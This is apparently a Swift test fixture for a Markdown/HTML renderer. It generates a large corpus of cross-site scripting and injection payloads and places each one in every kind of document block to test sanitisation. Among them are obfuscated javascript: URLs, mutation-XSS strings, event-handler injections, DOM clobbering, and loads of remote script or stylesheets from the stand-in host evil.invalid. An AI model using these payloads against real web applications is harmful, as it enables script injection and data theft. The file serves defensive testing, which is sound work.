import StyledRuns

/// Attempts to run script, to open a request or to leave the container, made by combining what is known to work
/// somewhere. A script that runs calls `hit`; a request goes to `evil.invalid`.
enum Attacks {
  static let elements = [
    "img", "svg", "body", "video", "audio", "input", "details", "a", "p", "iframe", "object", "embed",
    "marquee",
    "form", "button", "math", "style", "link", "meta", "base", "table", "td", "select", "textarea",
    "x-custom",
  ]
  static let handlers = [
    "onerror", "onload", "onclick", "ontoggle", "onfocus", "ONMOUSEOVER", "onanimationstart", "onbegin",
  ]

  static let addresses: [String] = {
    let schemes = [
      "javascript:", "JAVASCRIPT:", "jav\tascript:", "java\nscript:", "java\rscript:", " javascript:",
      "\u{1}javascript:",
      "javascript\u{0}:", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&colon;",
      "java&Tab;script:", "java&NewLine;script:", "vbscript:", "data:text/html,", "data:image/svg+xml,",
      "DATA:text/html;base64,",
      "feed:javascript:", "view-source:javascript:", "blob:", "filesystem:", "\u{200B}javascript:",
      "\\javascript:",
      "%6Aavascript:", "javascript%3A", "//example.org/", "x:y:javascript:",
    ]
    return schemes.flatMap { ["\($0)hit(1)", "\($0)<script>hit(1)</script>"] }
  }()

  static let raw: [String] = {
    var list = [
      "<script>hit(1)</script>", "<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>",
      "<scr<script>ipt>hit(1)</script>",
      "<script", "<script/x>hit(1)</script>", "<svg><script>hit(1)</script></svg>",
      "<svg><style><img src=x onerror=hit(1)>",
      "<math><mtext></p><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=hit(1)&gt;\">",
      "<noscript><p title=\"</noscript><img src=x onerror=hit(1)>\">",
      "<title><img src=x onerror=hit(1)></title>",
      "<textarea><img title=\"</textarea><img src=x onerror=hit(1)>\">",
      "<xmp><p title=\"</xmp><img src=x onerror=hit(1)>\">",
      "<style>@import 'https://evil.invalid/x.css';</style>",
      "<link rel=stylesheet href=https://evil.invalid/x.css>",
      "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>", "<base href=https://evil.invalid/>",
      "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
      "<object data=https://evil.invalid/></object>",
      "<embed src=https://evil.invalid/>",
      "<video poster=https://evil.invalid/p><source src=https://evil.invalid/v></video>",
      "<input type=image src=https://evil.invalid/i>",
      "<table background=https://evil.invalid/b><tr><td>x</table>",
      "<p style='background:url(https://evil.invalid/s)'>x</p>", "<img srcset='https://evil.invalid/s 1x'>",
      "<picture><source srcset=https://evil.invalid/s><img src=x onerror=hit(1)></picture>",
      "<form action=javascript:hit(1)><button>x",
      "<a href=x id=hit name=hit>c</a>", "<img name=querySelectorAll id=body>", "<form id=ils></form>",
      "</div></div></main></body>",
      "</p></li></ul></blockquote><h1 id=outside>out</h1>", "<plaintext>", "<!--><img src=x onerror=hit(1)>",
      "<!--->x--!><img src=x onerror=hit(1)>",
      "<![CDATA[<img src=x onerror=hit(1)>]]>", "<?xml ?><img src=x onerror=hit(1)>",
      "<b title='\"><img src=x onerror=hit(1)>'>x</b>",
      "<b title=\"'><img src=x onerror=hit(1)>\">x</b>", "<img src=\"x`\" `onerror=hit(1)>",
      "<img/src=x/onerror=hit(1)>", "<img\u{C}src=x\u{C}onerror=hit(1)>",
      "<details open ontoggle=hit(1)><summary>x</summary>",
      "<select><template><img src=x onerror=hit(1)></template></select>",
      "<template shadowrootmode=open><script>hit(1)</script></template>",
      "<a href='#' ping=https://evil.invalid/ping>x</a>",
    ]
    for element in elements {
      for handler in handlers {
        list.append("<\(element) src=x href=x autofocus tabindex=1 \(handler)=hit(1)>x</\(element)>")
      }
    }
    for address in addresses {
      list.append("<a href=\"\(address)\">x</a>")
      list.append("<img src='\(address)'>")
    }
    return list
  }()

  /// Each attack wherever text of a document can stand.
  static func blocks() -> [Block] {
    var blocks: [Block] = []
    for (index, attack) in raw.enumerated() {
      switch index % 4 {
      case 0: blocks.append(Make.html(attack + "\n"))
      case 1: blocks.append(Make.p("before ", .raw(attack), .strong([.raw(attack), "in"]), " after"))
      case 2: blocks.append(Make.bullets(Make.item(Make.html(attack), Make.p(.text(attack)))))
      default: blocks.append(Make.table([.none], [[.raw(attack)]], [[[.text(attack), .code(attack)]]]))
      }
      if index % 7 == 0 {
        blocks += [
          Make.h(2, .text(attack)),
          Make.code("\(attack) {1} title=\"\(attack)\"", attack, language: attack, name: attack),
          Make.p(
            .link("https://example.org", [.text(attack)], title: attack),
            .image("data:image/png,\(attack)", attack, title: attack)),
          Make.frontMatter("\(attack): \(attack)\ntitle: [\(attack)]\n  \(attack)\n"),
          Make.frontMatter(attack, .toml),
          Make.p(.math(attack), .displayMath(attack), .image("x", attack), .strong([.math(attack)])),
          Make.code("mermaid \(attack)", attack), Make.code("math", attack),
          Make.code("{1} title='\(attack)' \(attack)", "\u{202E}\(attack)"),
          Make.bullets(Make.item(Make.p(.text(attack)), task: true)), Make.footnote(1, Make.p(.text(attack))),
        ]
      }
    }
    for address in addresses {
      blocks.append(Make.p(.link(address, ["x"], title: address), .image(address, address)))
    }
    return blocks
  }
}
